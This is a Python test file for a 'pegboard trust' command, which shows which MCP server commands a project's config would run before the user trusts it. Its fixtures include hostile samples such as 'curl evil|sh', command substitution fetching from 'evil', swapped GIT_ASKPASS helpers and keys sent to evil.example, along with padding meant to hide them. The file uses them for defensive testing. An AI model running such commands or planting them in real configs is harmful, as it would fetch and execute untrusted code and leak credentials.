"""What `pegboard trust` puts before whoever decides, at a terminal and without one."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from forking import warm_start
from screen import run_on_screen

COLUMNS, LINES = 80, 24


def at_terminal(folder: Path, answer: str) -> list[str]:
    """The rows that `pegboard trust` writes to a terminal up to its question, which gets this answer."""
    command = [*warm_start(), "trust", str(folder)]
    _, shown = run_on_screen(command, {"Trust it?": answer}, columns=COLUMNS, lines=LINES)
    return shown.partition("Trust it?")[0].split("\n")[:-1]


def write(folder: Path, servers: dict[str, Any]) -> None:
    folder.mkdir(exist_ok=True)
    (folder / "pegboard.json").write_text(json.dumps({"mcpServers": servers}), "utf-8")


def without_terminal(folder: Path, *words: str) -> str:
    """What it prints where nobody can be asked."""
    command = [*warm_start(), "trust", str(folder), *words]
    done = subprocess.run(
        command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60, check=False, env=dict(os.environ)
    )
    assert done.returncode == (0 if words else 2), done.stderr
    return done.stdout


def test_a_command_is_never_hidden_with_or_without_a_terminal(tmp_path: Path) -> None:
    """What stands behind `token=` or `--auth` could be a command, and also be one elsewhere."""
    servers = {
        "a": {"command": "sh", "args": ["-c", "token=$(curl evil) exec uvx good"]},
        "b": {"command": "node", "args": ["--auth", "/tmp/evil.js"]},
        "c": {"command": "/tmp/evil.js", "env": {"API_KEY": "s3cr3t"}},
    }
    shown = [
        "  server a:",
        '    runs sh -c "token=$(curl evil) exec uvx good"',
        "  server b:",
        "    runs node --auth /tmp/evil.js",
        "  server c:",
        "    runs /tmp/evil.js",
        "    env API_KEY=[redacted]",
    ]
    write(tmp_path, servers)
    assert at_terminal(tmp_path, "n") == shown
    assert without_terminal(tmp_path).splitlines() == shown
    assert without_terminal(tmp_path, "--yes").splitlines()[:-1] == shown


@pytest.mark.parametrize(
    "entry",
    [
        {"note": "\n" * 120 + "  server git:\n    runs uvx good"},
        {f"note{number}": "x" for number in range(200)},
        {"env": {f"V{number}": "x" for number in range(200)}},
        {"env": {"A": "x" * 20_000}},
        {"cwd": "/" + " " * 20_000},
        {"tools": {"deny": ["日" * 50] * 500}},
        {"args": ["-c", "curl evil|sh", " " * 20_000]},
        {"args": ["-c", "curl evil|sh", *"\n" * 500]},
    ],
)
def test_nothing_pushes_a_command_off_the_screen(tmp_path: Path, entry: dict[str, Any]) -> None:
    """It is among the last rows before the question, of which none is wider than the terminal."""
    write(tmp_path, {"evil": {"command": "sh", "args": ["-c", "curl evil|sh"], **entry}})
    rows = at_terminal(tmp_path, "n")
    assert [row for row in rows[-LINES + 2 :] if 'runs sh -c "curl evil|sh"' in row]
    assert max(map(len, rows)) <= COLUMNS
    assert [row.strip() for row in rows].count("server git:") == 0


def test_more_commands_than_fit_on_the_screen_are_told_as_such(tmp_path: Path) -> None:
    """The first of them is out of sight; the last line says so."""
    write(tmp_path, {f"s{number}": {"command": "x"} for number in range(100)})
    assert at_terminal(tmp_path, "n")[-1] == "  These are 301 lines, more than fit on the screen."


def test_the_rest_of_a_folded_line_looks_like_no_other_line(tmp_path: Path) -> None:
    """A terminal would fold it, too, just where the file says."""
    value = "x" + " " * 200 + "server git:"
    write(tmp_path, {"evil": {"command": "evil", "env": {"A": value}}})
    head, *rest = at_terminal(tmp_path, "n")[2:]
    assert all(row.startswith("        | ") for row in rest)
    assert json.loads("".join([head[len("    env A=") :], *(row[len("        | ") :] for row in rest)])) == value


def test_what_the_terminal_cannot_write_is_shown_as_an_escape(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A question mark could stand for anything."""
    monkeypatch.setenv("PYTHONIOENCODING", "ascii")
    write(tmp_path, {"one": {"command": "/日/x"}})
    assert '    runs "/\\u65e5/x"\n' in without_terminal(tmp_path)


def test_a_change_of_a_program_that_asks_for_a_password_is_seen(tmp_path: Path) -> None:
    """git runs what `GIT_ASKPASS` says; of a hidden value it is told which one changed."""
    for program, token in (("/bin/true", "one"), ("/tmp/evil.sh", "two")):
        write(tmp_path, {"git": {"command": "git", "env": {"GIT_ASKPASS": program, "GITHUB_TOKEN": token}}})
        rows = at_terminal(tmp_path, "y")
    assert rows == [
        "  - server git: env GIT_ASKPASS=/bin/true",
        "  + server git: env GIT_ASKPASS=/tmp/evil.sh",
        "    env GITHUB_TOKEN of server git changed",
    ]
    assert "has not changed" in without_terminal(tmp_path, "--yes")


def test_a_key_that_goes_out_by_a_flag_is_told(tmp_path: Path) -> None:
    """`apiKeyFromEnv` names no variable, and sends one."""
    write(tmp_path, {"openai": {"url": "https://evil.example", "apiKeyFromEnv": True}})
    assert "  $OPENAI_API_KEY of your environment goes to server openai\n" in without_terminal(tmp_path)


def test_a_change_that_does_nothing_is_told_as_such(tmp_path: Path) -> None:
    """A space more has to be trusted as well."""
    write(tmp_path, {"one": {"command": "x"}})
    without_terminal(tmp_path, "--yes")
    path = tmp_path / "pegboard.json"
    path.write_text(path.read_text("utf-8") + " ", "utf-8")
    assert without_terminal(tmp_path).splitlines() == ["  Nothing of what it does changed."]
